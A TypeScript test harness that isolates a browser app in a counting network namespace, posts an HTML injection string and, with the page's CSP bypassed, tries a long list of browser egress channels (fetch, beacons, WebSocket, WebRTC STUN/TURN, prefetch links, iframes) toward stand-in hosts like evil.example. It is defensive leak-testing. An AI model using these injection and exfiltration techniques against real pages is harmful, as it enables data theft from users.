/**
 * A person at a window, in a network of their own in which only loopback answers: whatever else is sent goes out by one interface
 * that counts it. Says what it has counted. For `network-namespace.test.ts`, which starts it inside.
 */
import { execFileSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { confirmPhrase, register } from './browser.ts'
import {
  type Ending,
  startLocalOperator,
  temporaryDirectory,
  useStandInProofs,
  withEnding,
} from './command.ts'
import { createHeadlessBrowser, lookIntoWindow, startOwnWindow } from './own-window.ts'
import { untilSo } from './patience.ts'

/** Every address but loopback's is behind \`out0\`, where nobody is. */
function openNetwork(): void {
  const ip = (line: string) => execFileSync('ip', line.split(' '), { stdio: 'pipe' })
  ip('link set lo up')
  try {
    ip('link add out0 type dummy')
  } catch {
    ip('link add out0 type veth peer name in0')
    ip('link set in0 arp off multicast off addrgenmode none up')
  }
  // It says nothing by itself: no neighbours are looked for, no routers, no groups.
  ip('link set out0 arp off multicast off addrgenmode none up')
  ip('addr add 192.0.2.1/24 dev out0')
  ip('-6 addr add 2001:db8::1/64 dev out0 nodad')
  ip('route add default dev out0')
  ip('-6 route add default dev out0')
}

type Count = { readonly packets: number; readonly datagrams: number }

/** Packets that went out, and datagrams anywhere, loopback included: a name would be asked for with one. */
function count(): Count {
  const row = readFileSync('/proc/net/dev', 'utf8')
    .split('\n')
    .find((line) => line.trim().startsWith('out0:'))
  const packets = Number(row?.split(':')[1]?.trim().split(/\s+/)[9])
  const [names = [], values = []] = readFileSync('/proc/net/snmp', 'utf8')
    .split('\n')
    .filter((line) => line.startsWith('Udp:'))
    .map((line) => line.split(/\s+/))
  const udp = Number(values[names.indexOf('OutDatagrams')])
  const udp6 = Number(/^Udp6OutDatagrams\s+(\d+)$/m.exec(readFileSync('/proc/net/snmp6', 'utf8'))?.[1])
  return { packets, datagrams: udp + udp6 }
}

const difference = (from: Count, to: Count): Count => ({
  packets: to.packets - from.packets,
  datagrams: to.datagrams - from.datagrams,
})

/** What must be seen for the counting to be believed: one packet each by UDP and TCP, IPv4 and IPv6. */
async function sendOutside(): Promise<void> {
  for (const [kind, host] of [
    ['udp4', '198.51.100.7'],
    ['udp6', '2001:db8:1::7'],
  ] as const) {
    const socket = createSocket(kind)
    await new Promise((resolve) => socket.send('x', 53, host, resolve))
    socket.close()
    const seen = count().packets
    const call = connect({ host, port: 80 })
    call.on('error', () => {})
    await untilSo(() => count().packets > seen, `a packet to ${host} is counted`)
    call.destroy()
    await once(call, 'close')
  }
}

/** From the beginning to a post, and then everything that a page can try to get out. */
async function live(ending: Ending): Promise<void> {
  useStandInProofs()
  const home = join(await temporaryDirectory(ending), 'home')
  const { address: operator } = await startLocalOperator(ending, await temporaryDirectory(ending))
  const browser = await createHeadlessBrowser(ending)
  const own = startOwnWindow(ending, { home, operator, browser })
  await own.heard('The window is open.')
  const { page, complaints } = await lookIntoWindow(ending, home)
  await register({ page }, 'alice')
  await confirmPhrase({ page })
  await page.keyboard.press('n')
  await page
    .getByLabel('What do you want to say?')
    .fill('https://evil.example <img src=http://198.51.100.7/x>')
  await page.keyboard.press('Control+Enter')
  await page.locator('.post', { hasText: 'evil.example' }).waitFor()
  complaints.allow(/./)
  await tryToGetOut(page)
  own.child.kill('SIGTERM')
  await own.ended
}

const ELSEWHERE = ['198.51.100.7', '[2001:db8:1::7]', 'evil.example', 'stun.evil.example']

/** With the page's own policy switched off: what is left is the shell. */
async function tryToGetOut(page: Page): Promise<void> {
  const session = await page.context().newCDPSession(page)
  await session.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.getByRole('heading', { name: 'Feed' }).waitFor()
  await page.evaluate(`(async () => {
    const settled = (act) => Promise.race([
      new Promise((resolve) => act(resolve)).catch(() => {}),
      new Promise((resolve) => setTimeout(resolve, 1_000)),
    ])
    const attempts = ${JSON.stringify(ELSEWHERE)}.flatMap((host) => [
      (done) => fetch('https://' + host + '/', { mode: 'no-cors' }).finally(done),
      (done) => fetch('http://' + host + ':8080/').finally(done),
      (done) => Object.assign(new Image(), { onerror: done, onload: done }).src = 'http://' + host + '/x.png',
      (done) => { const one = new WebSocket('ws://' + host + '/'); one.onerror = done },
      (done) => { const one = new EventSource('https://' + host + '/'); one.onerror = () => { one.close(); done() } },
      (done) => { navigator.sendBeacon('https://' + host + '/', 'x'); done() },
      (done) => new WebTransport('https://' + host + ':443/').ready.finally(done),
      (done) => {
        const one = new RTCPeerConnection({ iceServers: [
          { urls: 'stun:' + host + ':3478' },
          { urls: 'turn:' + host + ':3478?transport=tcp', username: 'x', credential: 'x' },
        ] })
        one.createDataChannel('x')
        one.onicegatheringstatechange = () => one.iceGatheringState === 'complete' && done()
        one.createOffer().then((offer) => one.setLocalDescription(offer))
      },
      (done) => {
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'icon', 'manifest']) {
          document.head.append(Object.assign(document.createElement('link'), { rel, href: 'https://' + host + '/' + rel }))
        }
        done()
      },
      (done) => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://' + host, onload: done })) },
    ])
    await Promise.all(attempts.map(settled))
  })()`)
  // And at last the page itself goes; it is brought back.
  await page.evaluate(`globalThis.isOld = true; setTimeout(() => { location = 'http://198.51.100.7/' }, 0)`)
  const isNew = () =>
    page.evaluate('globalThis.isOld === undefined').then(
      (is) => is === true,
      () => false,
    )
  await untilSo(isNew, 'it has gone')
  await page.getByRole('heading', { name: 'Feed' }).waitFor()
}

await withEnding(async (ending) => {
  openNetwork()
  const before = count()
  await sendOutside()
  const control = difference(before, count())
  const start = count()
  await live(ending)
  process.stdout.write(JSON.stringify({ control, lived: difference(start, count()) }))
})
